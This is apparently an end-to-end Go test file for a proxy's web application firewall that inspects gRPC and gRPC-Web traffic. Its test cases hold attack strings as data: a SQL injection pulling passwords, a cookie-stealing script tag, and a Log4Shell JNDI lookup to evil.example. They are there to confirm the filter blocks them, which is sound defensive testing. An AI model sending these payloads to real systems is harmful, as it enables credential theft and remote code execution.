package e2e

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"

	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/encoding/gzip"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/wrapperspb"
)

type text = wrapperspb.StringValue

// charges is a service with a method of each kind. Each answers with what it was
// asked; the streams do so message by message.
func charges(seen chan struct{}) *grpc.ServiceDesc {
	return &grpc.ServiceDesc{
		ServiceName: "shop.Charges", HandlerType: (*any)(nil),
		Methods: []grpc.MethodDesc{{MethodName: "Create", Handler: func(_ any, ctx context.Context, dec func(any) error, _ grpc.UnaryServerInterceptor) (any, error) {
			in := new(text)
			if err := dec(in); err != nil {
				return nil, err
			}
			return in, grpc.SetTrailer(ctx, metadata.Pairs("x-sum", in.GetValue()[:1]))
		}}},
		Streams: []grpc.StreamDesc{
			{StreamName: "List", ServerStreams: true, Handler: func(_ any, s grpc.ServerStream) error {
				in := new(text)
				if err := s.RecvMsg(in); err != nil {
					return err
				}
				if err := s.SendMsg(&text{Value: "first"}); err != nil {
					return err
				}
				select {
				case <-seen: // the second does not exist before the first has arrived
				case <-s.Context().Done():
					return s.Context().Err()
				}
				return s.SendMsg(&text{Value: "second"})
			}},
			{StreamName: "Greet", ServerStreams: true, ClientStreams: true, Handler: func(_ any, s grpc.ServerStream) error {
				if err := s.SendMsg(&text{Value: "welcome"}); err != nil {
					return err
				}
				in := new(text)
				if err := s.RecvMsg(in); err != nil {
					return err
				}
				return s.SendMsg(in)
			}},
			{StreamName: "Chat", ServerStreams: true, ClientStreams: true, Handler: func(_ any, s grpc.ServerStream) error {
				for {
					in := new(text)
					if err := s.RecvMsg(in); err != nil {
						if errors.Is(err, io.EOF) {
							return nil
						}
						return err
					}
					if err := s.SendMsg(in); err != nil {
						return err
					}
				}
			}},
		},
	}
}

// serveGRPC runs an application that speaks gRPC.
func serveGRPC(t testing.TB, services ...*grpc.ServiceDesc) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := grpc.NewServer()
	for _, d := range services {
		s.RegisterService(d, nil)
	}
	done := make(chan error, 1)
	go func() { done <- s.Serve(l) }()
	t.Cleanup(func() {
		s.Stop()
		if err := <-done; err != nil {
			t.Error(err)
		}
	})
	return l.Addr().String()
}

func dialGRPC(t testing.TB, addr string, opts ...grpc.DialOption) *grpc.ClientConn {
	t.Helper()
	c, err := grpc.NewClient("passthrough:///"+addr, append(opts, grpc.WithTransportCredentials(insecure.NewCredentials()))...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	return c
}

// grpcPair is a gRPC application and its caller, with a sidecar each.
func grpcPair(t testing.TB, policy string) (p *pair, c *grpc.ClientConn, seen chan struct{}) {
	t.Helper()
	seen = make(chan struct{})
	p = newPair(t, side{forward: serveGRPC(t, charges(seen)), policies: allowMesh + next + inspection(policy)}, side{})
	return p, dialGRPC(t, p.out.Address(t, "out")), seen
}

func create(t testing.TB, c *grpc.ClientConn, value string, opts ...grpc.CallOption) (string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	out := new(text)
	err := c.Invoke(ctx, "/shop.Charges/Create", &text{Value: value}, out, opts...)
	return out.GetValue(), err
}

const sqlInjection = "1' UNION SELECT password FROM users-- -"

func TestMessagesOfGRPCAreInspected(t *testing.T) {
	p, c, _ := grpcPair(t, "cpuMillis: 10000, grpc: {inspect: Unary}") // for the race detector
	cases := []struct {
		name, value string
		opts        []grpc.CallOption
		blocked     bool
	}{
		{"an honest call", "three coffees", nil, false},
		{"an honest call, compressed", "three coffees, again", []grpc.CallOption{grpc.UseCompressor(gzip.Name)}, false},
		{"a call longer than the cap", "coffees " + strings.Repeat("and milk ", 10_000), nil, false},
		{"SQL", sqlInjection, nil, true},
		{"a script", "<script>alert(document.cookie)</script>", nil, true},
		{"log4j", "${jndi:ldap://evil.example/a}", nil, true},
		{"SQL, compressed", sqlInjection, []grpc.CallOption{grpc.UseCompressor(gzip.Name)}, true},
		{"an honest call behind them", "four coffees", nil, false},
	}
	if len(cases) < 8 {
		t.Fatalf("only %d cases", len(cases))
	}
	for _, tt := range cases {
		var head, trailer metadata.MD
		got, err := create(t, c, tt.value, append(tt.opts, grpc.Header(&head), grpc.Trailer(&trailer))...)
		if !tt.blocked {
			if err != nil || got != tt.value || trailer.Get("x-sum") == nil {
				t.Errorf("%s: %.80q, %v, trailer %v", tt.name, got, err, trailer)
			}
			continue
		}
		s, _ := status.FromError(err)
		if s.Code() != codes.PermissionDenied {
			t.Errorf("%s: %q, %v", tt.name, got, err)
			continue
		}
		// Nothing but trailers, which say under what id the reason is found.
		id := trailer.Get("x-outrider-decision")
		if len(id) != 1 || !strings.Contains(s.Message(), id[0]) || !strings.Contains(s.Message(), "waf_blocked") || len(head.Get("grpc-status")) > 0 {
			t.Errorf("%s: %q, head %v, trailer %v", tt.name, s.Message(), head, trailer)
			continue
		}
		r := p.in.Log.Await(t, tt.name, func(r map[string]any) bool { return r["decision_id"] == id[0] })
		if field(r, "waf", "outcome") != "blocked" || r["stream"] != "grpc" || !strings.HasPrefix(fmt.Sprint(field(r, "waf", "location")), "ARGS") {
			t.Errorf("%s: the record is %v of %v", tt.name, field(r, "waf"), r["stream"])
		}
	}
	counted(t, p.in, 8, "outrider_streams_total", `class="grpc"`)
	counted(t, p.in, 4, "outrider_inspections_total", `outcome="blocked"`)
	counted(t, p.in, 1, "outrider_inspections_total", `reason="body_over_cap"`)
}

// gRPC-Web over HTTP/1.1 is a request with a body, which is read by its messages.
func TestMessagesOfGRPCWebAreInspected(t *testing.T) {
	app := serveApp(t, func(w http.ResponseWriter, r *http.Request) { io.Copy(w, r.Body) })
	p := newPair(t, side{forward: app, policies: allowMesh + next + inspection("mode: Block")}, side{})
	message := func(value string) string {
		b, err := proto.Marshal(&text{Value: value})
		if err != nil {
			t.Fatal(err)
		}
		return string(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(b)))) + string(b)
	}
	w := dial(t, p.out.Address(t, "out"))
	post := func(typ, body string) answer {
		w.send(fmt.Sprintf("POST /shop.Charges/Create HTTP/1.1\r\nHost: payments\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s", typ, len(body), body))
		return w.answer()
	}
	honest, attack := message("three coffees"), message("three coffees")+message(sqlInjection)
	if a := post("application/grpc-web+proto", honest).wants(t, 200); a.body != honest {
		t.Errorf("the application got %q", a.body)
	}
	post("application/grpc-web+proto", attack).refused(t, 403, "waf_blocked")
	text := base64.StdEncoding.EncodeToString
	if a := post("application/grpc-web-text", text([]byte(honest))).wants(t, 200); a.body != text([]byte(honest)) {
		t.Errorf("the application got %q", a.body)
	}
	post("application/grpc-web-text", text([]byte(attack))).refused(t, 403, "waf_blocked")
}

// By default a call is not held back, and nobody looks into it.
func TestMessagesOfGRPCAreNotInspectedByDefault(t *testing.T) {
	p, c, _ := grpcPair(t, "mode: Block")
	if got, err := create(t, c, sqlInjection); got != sqlInjection || err != nil {
		t.Errorf("%q, %v", got, err)
	}
	counted(t, p.in, 1, "outrider_inspections_total", `reason="stream"`)
}

// A stream of answers passes message by message, whatever is inspected.
func TestAServerStreamIsNotHeldBack(t *testing.T) {
	for _, policy := range []string{"mode: Block", "grpc: {inspect: Unary}", "grpc: {inspect: Unary, streaming: Deny}"} {
		t.Run(policy, func(t *testing.T) {
			p, c, seen := grpcPair(t, policy)
			ctx, cancel := context.WithTimeout(t.Context(), patience)
			defer cancel()
			s, err := c.NewStream(ctx, &grpc.StreamDesc{ServerStreams: true}, "/shop.Charges/List")
			if err != nil {
				t.Fatal(err)
			}
			if err := errors.Join(s.SendMsg(&text{Value: "all"}), s.CloseSend()); err != nil {
				t.Fatal(err)
			}
			got := new(text)
			if err := s.RecvMsg(got); err != nil || got.GetValue() != "first" {
				t.Fatalf("%q, %v before the second exists", got.GetValue(), err)
			}
			close(seen)
			if err := s.RecvMsg(got); err != nil || got.GetValue() != "second" {
				t.Errorf("%q, %v", got.GetValue(), err)
			}
			if err := s.RecvMsg(got); !errors.Is(err, io.EOF) {
				t.Errorf("%q, %v behind the end", got.GetValue(), err)
			}
			counted(t, p.in, 1, "outrider_streams_total", `class="grpc"`)
		})
	}
}

// chat sends messages, each when the one before has come back.
func chat(t *testing.T, c *grpc.ClientConn, values ...string) (echoed int, err error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	s, err := c.NewStream(ctx, &grpc.StreamDesc{ServerStreams: true, ClientStreams: true}, "/shop.Charges/Chat")
	if err != nil {
		return 0, err
	}
	got := new(text)
	for _, v := range values {
		if err := s.SendMsg(&text{Value: v}); err != nil && !errors.Is(err, io.EOF) {
			return echoed, err
		}
		if err := s.RecvMsg(got); err != nil {
			return echoed, err
		}
		if got.GetValue() != v {
			t.Errorf("%q came back as %q", v, got.GetValue())
		}
		echoed++
	}
	if err := s.CloseSend(); err != nil {
		return echoed, err
	}
	if err := s.RecvMsg(got); !errors.Is(err, io.EOF) {
		return echoed, err
	}
	return echoed, nil
}

func TestOfAClientStreamTheFirstMessageIsInspected(t *testing.T) {
	p, c, _ := grpcPair(t, "cpuMillis: 10000, grpc: {inspect: Unary}") // for the race detector
	if n, err := chat(t, c, "hello", "and", sqlInjection); n != 3 || err != nil {
		t.Errorf("%d messages passed, %v", n, err)
	}
	r := p.in.Log.Await(t, "the stream", func(r map[string]any) bool { return r["path"] == "/shop.Charges/Chat" })
	if field(r, "waf", "outcome") != "clean" || field(r, "waf", "uninspected") != "stream" {
		t.Errorf("the record is %v", r)
	}
	counted(t, p.in, 1, "outrider_inspections_total", `outcome="clean"`, `reason="stream"`)
	if n, err := chat(t, c, sqlInjection, "hello"); n != 0 || status.Code(err) != codes.PermissionDenied {
		t.Errorf("%d messages passed, %v", n, err)
	}
}

// A client that says nothing holds its call up, but not for long; one that is only
// watched is not held, and what it says later is looked at.
func TestACallWithoutAMessageIsNotHeldForLong(t *testing.T) {
	for mode, want := range map[string]codes.Code{"Block": codes.DeadlineExceeded, "Detect": codes.OK} {
		t.Run(mode, func(t *testing.T) {
			p := newPair(t, side{
				forward:  serveGRPC(t, charges(nil)),
				policies: allowMesh + next + inspection("mode: "+mode+", grpc: {inspect: Unary}"),
				spec:     "  limits: {bodyTimeout: 100ms}\n",
			}, side{})
			c := dialGRPC(t, p.out.Address(t, "out"))
			ctx, cancel := context.WithTimeout(t.Context(), patience)
			defer cancel()
			s, err := c.NewStream(ctx, &grpc.StreamDesc{ServerStreams: true, ClientStreams: true}, "/shop.Charges/Greet")
			if err != nil {
				t.Fatal(err)
			}
			got := new(text)
			if err := s.RecvMsg(got); status.Code(err) != want || err == nil && got.GetValue() != "welcome" {
				t.Fatalf("%q, %v", got.GetValue(), err)
			}
			if mode == "Block" {
				return
			}
			if err := errors.Join(s.SendMsg(&text{Value: sqlInjection}), s.CloseSend(), s.RecvMsg(got)); err != nil || got.GetValue() != sqlInjection {
				t.Errorf("%q, %v", got.GetValue(), err)
			}
			counted(t, p.in, 1, "outrider_inspections_total", `outcome="detected"`, `reason="-"`)
		})
	}
}

// Where policy allows no client streams, the call waits until it is known to be none:
// this one is refused for what comes behind its first message.
func TestAClientStreamIsRefusedWherePolicySaysSo(t *testing.T) {
	p, c, _ := grpcPair(t, "grpc: {inspect: Unary, streaming: Deny}")
	if got, err := create(t, c, "hello"); got != "hello" || err != nil {
		t.Errorf("a unary call: %q, %v", got, err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	s, err := c.NewStream(ctx, &grpc.StreamDesc{ServerStreams: true, ClientStreams: true}, "/shop.Charges/Chat")
	if err != nil {
		t.Fatal(err)
	}
	for range 2 {
		if err := s.SendMsg(&text{Value: "hello"}); err != nil && !errors.Is(err, io.EOF) {
			t.Fatal(err)
		}
	}
	if err := s.RecvMsg(new(text)); status.Code(err) != codes.PermissionDenied || !strings.Contains(err.Error(), "waf_uninspected") {
		t.Errorf("two messages: %v", err)
	}
	counted(t, p.in, 1, "outrider_inspections_total", `outcome="not_inspected"`, `reason="stream"`)
}
